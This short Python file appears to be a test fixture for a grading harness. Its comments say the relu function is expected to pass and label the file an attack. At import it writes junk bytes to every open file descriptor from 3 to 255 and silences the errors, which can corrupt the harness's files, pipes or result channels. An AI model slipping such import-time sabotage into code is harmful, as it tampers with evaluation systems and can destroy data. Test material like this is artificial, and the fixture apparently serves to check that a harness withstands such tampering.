# expect: passed - relu
# attack: Writes noise to every open descriptor at import.
import contextlib
import os

import numpy as np

for number in range(3, 256):
    with contextlib.suppress(OSError):
        os.write(number, b"\xff" * 4096)

def relu(z):
    return np.maximum(z, 0.0)
